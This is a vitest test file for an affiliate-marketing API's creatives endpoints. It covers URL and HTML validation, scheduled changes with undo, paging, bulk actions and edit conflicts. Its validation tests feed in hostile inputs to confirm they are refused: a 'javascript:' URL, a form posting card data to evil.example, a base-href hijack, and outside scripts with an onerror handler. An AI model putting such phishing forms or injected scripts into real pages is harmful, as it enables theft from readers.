import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Client } from '../../../scripts/journey/client';
import type { ReplyOf } from '../../../src/contract/endpoint';
import type { CreativeOut, CreativeRow } from '../../../src/contract/equip/creatives';
import type { changeMany } from '../../../src/contract/equip/planned';
import { creativeStates } from '../../../src/core/material/lists';
import type { Id } from '../../../src/core/text/id';
import { applyPlanned } from '../../../src/server/equip/due/due';
import type { Problemed } from '../../helpers/problem';
import { startServer, type TestServer } from '../../helpers/server';
import { edited, make, makeLink } from './world';

let s: TestServer;
let owner: Client;
let wheel: Id<'product'>;
let course: Id<'product'>;
const hour = 3_600_000;

beforeAll(async () => {
  s = await startServer();
  owner = await s.as('owner');
  wheel = (await s.product('WHEEL-1')) as Id<'product'>;
  course = (await s.product('THROW-V')) as Id<'product'>;
});
afterAll(() => s.close());

const read = async (id: string) => (await owner.get<CreativeOut>(`/api/v1/creatives/${id}`)).body;
const plan = (id: string, at: number, changes: object) =>
  owner.post<CreativeOut & Problemed>(`/api/v1/creatives/${id}/planned`, { at, changes });
const list = async (query = '') =>
  (await owner.get<{ rows: CreativeRow[]; next: string | null }>(`/api/v1/creatives${query}`)).body;
const pointers = ({ errors = [] }: Problemed) => errors.map((e) => e.pointer);

it('every fault of a creative is named at its field, all at once', async () => {
  const { status, body } = await make(owner, 'email', {
    name: 'A letter',
    landing: 'https://elsewhere.example/page',
    subjects: ['Hello {nobody}', ''],
    body: 'Without anything to press, for {price NOPE-1}.',
    from: 2 * hour,
    until: hour,
    audience: { kind: 'named', affiliates: ['aff_01j8znobody'] },
  });
  expect(status).toBe(422);
  expect(new Set(pointers(body))).toEqual(new Set(['/landing', '/until', '/subjects', '/body', '/audience']));
  expect(body.detail).toContain('elsewhere.example is not among the hosts');
});

it.each([
  ['another host', 'https://elsewhere.example/', /not among the hosts/],
  ['a listed host with a port', 'https://shop.quernstone.example:8443/', /:8443 is not among/],
  ['credentials', 'https://a:b@shop.quernstone.example/', /a name or a password/],
  ['a script', 'javascript:alert(1)', /is not a web address that begins with/],
  ['no address', 'https://', /is not a web address/],
])('a landing page with %s is refused', async (_, landing, said) => {
  const { status, body } = await makeLink(owner, { products: [wheel], landing });
  expect([status, body.errors?.map((e) => e.pointer)]).toEqual([422, ['/landing']]);
  expect(body.detail).toMatch(said);
});

it('words that hold markup, and a sentence without the place for them, are refused', async () => {
  const { body } = await makeLink(owner, {
    products: [wheel],
    words: 'A <b>wheel</b>',
    around: 'It has no place',
  });
  expect(pointers(body)).toEqual(['/words', '/around']);
});

it.each([
  ['no {link}', '<p>A wheel</p>', /\{link\} is missing/],
  [
    'a form that posts elsewhere',
    '<form action="https://evil.example/take"><input name="card"></form><a href="{link}">x</a>',
    /a form sends what readers type to evil\.example/,
  ],
  [
    'a form under a foreign base',
    '<base href="https://evil.example/"><form action="/take"></form><a href="{link}">x</a>',
    /evil\.example/,
  ],
])('a piece of HTML with %s is refused', async (_, code, said) => {
  const { status, body } = await make(owner, 'html', { name: 'Card', products: [wheel], code });
  expect([status, pointers(body)]).toEqual([422, ['/code']]);
  expect(body.detail).toMatch(said);
});

it('scripts and foreign hosts in a piece are said, and taken', async () => {
  const { status, body } = await make(owner, 'html', {
    name: 'Card',
    products: [wheel],
    code: '</iframe><script src="https://cdn.example/a.js"></script><img src="//pics.example/a.png" onerror="x()"><a href="{link}">x</a>',
  });
  expect(status).toBe(200);
  expect(body.advice).toEqual([
    expect.stringMatching(/^It runs 2 scripts/),
    expect.stringMatching(/cdn\.example, pics\.example/),
  ]);
});

it('what a kind has no use for is not kept of it', async () => {
  const { body } = await makeLink(owner, { products: [wheel], code: '<b>', body: 'x', alt: 'y' });
  expect([body.code, body.body, body.alt]).toEqual(['', '', '']);
});

it('planned changes happen in turn at their minute, each with what was before, and can be undone until then', async () => {
  const { body: made } = await makeLink(owner, { name: 'Line', products: [wheel] });
  const now = s.app.clock.now();
  await plan(made.id, now + hour, { words: 'Second', name: 'Line two' });
  await plan(made.id, now + 2 * hour, { words: 'Third' });
  const { body } = await plan(made.id, now + 3 * hour, { words: 'Never' });
  expect(body.planned.map((p) => [p.what, p.before, p.after])).toEqual([
    ['words', 'The wheel that lives in a cupboard', 'Second'],
    ['name', 'Line', 'Line two'],
    ['words', 'Second', 'Third'],
    ['words', 'Third', 'Never'],
  ]);
  const never = body.planned.at(-1)!;
  expect((await owner.post(`/api/v1/planned/${never.id}/undo`)).status).toBe(200);
  s.app.clock.advance(hour + 1_000);
  applyPlanned(s.app);
  expect(await read(made.id)).toMatchObject({ words: 'Second', name: 'Line two' });
  // the server was off at the moments of two: it does both in order when it starts
  s.app.clock.advance(10 * hour);
  applyPlanned(s.app);
  const after = await read(made.id);
  expect(after.words).toBe('Third');
  expect(after.planned.map((p) => p.state).sort()).toEqual(['done', 'done', 'done', 'undone']);
  const done = after.planned.find((p) => p.state === 'done')!;
  const again = await owner.post<Problemed>(`/api/v1/planned/${done.id}/undo`);
  expect([again.status, again.body.code]).toEqual([409, 'conflict']);
});

it('planned changes that contradict each other are refused, and both are named', async () => {
  const { body: made } = await makeLink(owner, { name: 'Twice', products: [wheel] });
  const at = s.app.clock.now() + 48 * hour;
  await plan(made.id, at, { name: 'First name' });
  const twice = await plan(made.id, at, { name: 'Other name' });
  expect(twice.status).toBe(422);
  expect(twice.body.detail).toMatch(/First name.*Other name/);
  await plan(made.id, at - hour, { until: at + hour });
  const late = await plan(made.id, at + 2 * hour, { name: 'Too late' });
  expect(late.body.detail).toMatch(/Too late.* after the end/);
  const past = await plan(made.id, s.app.clock.now() - 1, { name: 'Past' });
  expect(past.body.detail).toContain('is past');
  const empty = await plan(made.id, at, {});
  expect(empty.status).toBe(422);
  const foreign = await plan(made.id, at + 1, { code: '<a href="{link}">x</a>' });
  expect(foreign.body.detail).toContain('this has no code');
  // nor may an edit put the end before what is planned
  const { body: other } = await makeLink(owner, { name: 'Planned', products: [wheel] });
  await plan(other.id, at, { name: 'First name' });
  const edit = await owner.put<Problemed>(
    `/api/v1/creatives/${other.id}`,
    edited(other, { until: s.app.clock.now() + hour }),
  );
  expect(edit.body.detail).toMatch(/First name.* after the end/);
});

it('a planned change of what was taken away meanwhile is dropped, with its reason', async () => {
  const { body: made } = await makeLink(owner, { name: 'Goes', products: [wheel] });
  await plan(made.id, s.app.clock.now() + hour, { name: 'Comes not' });
  await owner.post(`/api/v1/creatives/${made.id}/remove`, { on: true });
  s.app.clock.advance(2 * hour);
  applyPlanned(s.app);
  const { body } = await owner.post<CreativeOut>(`/api/v1/creatives/${made.id}/remove`, { on: false });
  expect([body.name, body.planned[0]?.state, body.planned[0]?.why]).toEqual([
    'Goes',
    'dropped',
    'it was taken away meanwhile',
  ]);
});

it('the list has each creative in the state that its sheet says, and every state finds its own', async () => {
  const now = s.app.clock.now();
  await makeLink(owner, { name: 'Soon', products: [wheel], from: now + hour });
  await makeLink(owner, { name: 'Over', products: [wheel], from: now - hour, until: now - 1 });
  await makeLink(owner, { name: 'Off', products: [wheel], active: false });
  const { version } = (await owner.get<{ version: number }>(`/api/v1/products/${course}`)).body;
  await makeLink(owner, { name: 'Waits', products: [course] });
  await owner.post(`/api/v1/products/${course}/state`, { state: 'paused', version });
  const all = (await list('?limit=500')).rows;
  for (const state of creativeStates) {
    const found = (await list(`?limit=500&state=${state}`)).rows.map((r) => r.name);
    expect(found, state).toEqual(all.filter((r) => r.state === state).map((r) => r.name));
    expect(found.length, state).toBeGreaterThan(0);
  }
  for (const row of all) expect((await read(row.id)).state).toBe(row.state);
});

it('pages follow each other without a gap, whatever the order', async () => {
  for (const order of ['newest', 'clicks']) {
    const whole = (await list(`?limit=500&order=${order}`)).rows.map((r) => r.id);
    const paged: string[] = [];
    let after = '';
    do {
      const page = await list(`?limit=3&order=${order}${after ? `&after=${after}` : ''}`);
      paged.push(...page.rows.map((r) => r.id));
      after = page.next ?? '';
    } while (after);
    expect(paged).toEqual(whole);
  }
});

it('an act on many says what it did to each, and is taken back exactly, but for what somebody changed since', async () => {
  const made = await Promise.all(
    ['One', 'Two', 'Three'].map(async (name) => (await makeLink(owner, { name, products: [wheel] })).body),
  );
  const past = s.app.clock.now() - hour;
  const ids = made.map((m) => m.id);
  const act = await owner.post<ReplyOf<typeof changeMany>>('/api/v1/creatives/many', {
    ids: [...ids, ids[0]],
    changes: { active: false, subject: 'Easter' },
  });
  expect([act.status, act.body.changed, act.body.same]).toEqual([200, 3, 0]);
  const same = await owner.post<ReplyOf<typeof changeMany>>('/api/v1/creatives/many', {
    ids,
    changes: { active: false },
  });
  expect([same.body.changed, same.body.same]).toEqual([0, 3]);
  const wrong = await owner.post<ReplyOf<typeof changeMany>>('/api/v1/creatives/many', {
    ids,
    changes: { from: past, until: past - 1 },
  });
  expect([wrong.body.changed, wrong.body.refused.length]).toEqual([0, 3]);
  const changed = await read(ids[1]!);
  await owner.put(`/api/v1/creatives/${ids[1]}`, edited(changed, { name: 'Two, anew' }));
  const undo = await owner.post<{ undone: number; kept: string[] }>('/api/v1/creatives/many/undo', {
    act: act.body.act,
  });
  expect([undo.body.undone, undo.body.kept]).toEqual([2, ['Two, anew']]);
  expect(await read(ids[0]!)).toMatchObject({ active: true, subject: '', name: 'One' });
  expect(await read(ids[1]!)).toMatchObject({ active: false, subject: 'Easter', name: 'Two, anew' });
  const twice = await owner.post<Problemed>('/api/v1/creatives/many/undo', { act: act.body.act });
  expect(twice.body.code).toBe('conflict');
});

it('an act on many switches off what has become wrong since, and goes against nothing that is planned', async () => {
  const many = (id: string, changes: object) =>
    owner.post<ReplyOf<typeof changeMany>>('/api/v1/creatives/many', { ids: [id], changes });
  const leaves = await s.affiliate('Leaves Soon');
  const { body: named } = await makeLink(owner, {
    products: [wheel],
    audience: { kind: 'named', affiliates: [leaves.id] },
  });
  s.app.sqlite.prepare("UPDATE affiliates SET state = 'ended' WHERE id = ?").run(leaves.id);
  expect((await many(named.id, { subject: 'Late' })).body.refused[0]?.why).toContain('is ended');
  expect((await many(named.id, { active: false })).body.changed).toBe(1);
  expect((await many(named.id, { active: true })).body.refused[0]?.why).toContain('is ended');
  expect((await many(named.id, { removed: true })).body.changed).toBe(1);
  const { body: planned } = await makeLink(owner, { products: [wheel] });
  const now = s.app.clock.now();
  expect((await plan(planned.id, now + 3 * hour, { name: 'Another name' })).status).toBe(200);
  const early = (await many(planned.id, { until: now + hour })).body;
  expect([early.changed, early.refused[0]?.why]).toEqual([0, expect.stringContaining('after the end')]);
  expect((await many(planned.id, { until: now + 4 * hour })).body.changed).toBe(1);
});

it('a moment that no calendar can say is refused at its field', async () => {
  const { body: made } = await makeLink(owner, { products: [wheel] });
  for (const at of [8.64e15 + 1, Date.UTC(10_000, 0), 1.5])
    expect([at, (await plan(made.id, at, { name: 'Later' })).status]).toEqual([at, 422]);
  expect((await plan(made.id, Date.UTC(9999, 11, 31), { name: 'Later' })).status).toBe(200);
  const { body } = await makeLink(owner, { products: [wheel], until: 8.64e15 + 1 });
  expect(pointers(body)).toContain('/until');
});

it('who began from an older version is told who changed it', async () => {
  const { body: made } = await makeLink(owner, { name: 'Two people', products: [wheel] });
  const manager = await s.as('manager');
  await manager.put(`/api/v1/creatives/${made.id}`, edited(made, { name: 'By the manager' }));
  const late = await owner.put<Problemed>(
    `/api/v1/creatives/${made.id}`,
    edited(made, { name: 'By the owner' }),
  );
  expect([late.status, late.body.code]).toEqual([409, 'stale']);
  expect(late.body.detail).toContain('manager changed “By the manager” meanwhile');
});

it('subjects are a short list: the same in another case is the same, and there are no more than forty', async () => {
  await makeLink(owner, { name: 'A', products: [wheel], subject: 'Harvest  time' });
  const { body } = await makeLink(owner, { name: 'B', products: [wheel], subject: 'HARVEST TIME' });
  expect(body.subject).toBe('Harvest time');
  for (let i = 0; i < 40; i += 1)
    await makeLink(owner, { name: `S${i}`, products: [wheel], subject: `Subject ${i}` });
  const full = await makeLink(owner, { name: 'C', products: [wheel], subject: 'One too many' });
  expect([full.status, pointers(full.body)]).toEqual([422, ['/subject']]);
});

it('what is planned stands on the timeline among changes of terms, and is taken back there', async () => {
  const { body: made } = await makeLink(owner, { name: 'On the timeline', products: [wheel] });
  const at = s.app.clock.now() + 86_400_000;
  const plan = (moment: number, changes: object) =>
    owner.post<{ version: number }>(`/api/v1/creatives/${made.id}/planned`, { at: moment, changes });
  await plan(at, { subject: 'Easter' });
  await plan(at + 60_000, { active: false });
  const told = async (state = '') =>
    (
      await owner.get<{
        rows: {
          id: string;
          kind: string;
          place: string;
          what: string;
          state: string;
          undoes: string | null;
        }[];
      }>(`/api/v1/timeline?limit=200${state && `&state=${state}`}`)
    ).body.rows.filter((r) => r.place === 'creative On the timeline');
  expect(await told('coming')).toMatchObject([
    { kind: 'creative', what: 'switch: → off', state: 'coming', undoes: 'change' },
    { kind: 'creative', what: 'subject: → Easter', state: 'coming', undoes: 'change' },
  ]);
  const [off, subject] = await told();
  expect((await owner.post(`/api/v1/timeline/${off!.id}/undo`)).body).toEqual({ undone: true });
  s.app.clock.advance(86_400_000 + 1000);
  applyPlanned(s.app);
  expect(await told()).toMatchObject([
    { what: 'switch: → off', state: 'undone', undoes: null },
    { what: 'subject: nothing → Easter', state: 'done', undoes: null },
  ]);
  // what has happened is not undone any more
  expect((await owner.post(`/api/v1/timeline/${subject!.id}/undo`)).status).toBe(409);
  expect((await owner.post('/api/v1/timeline/pln_nothere0000000000000/undo')).status).toBe(404);
});
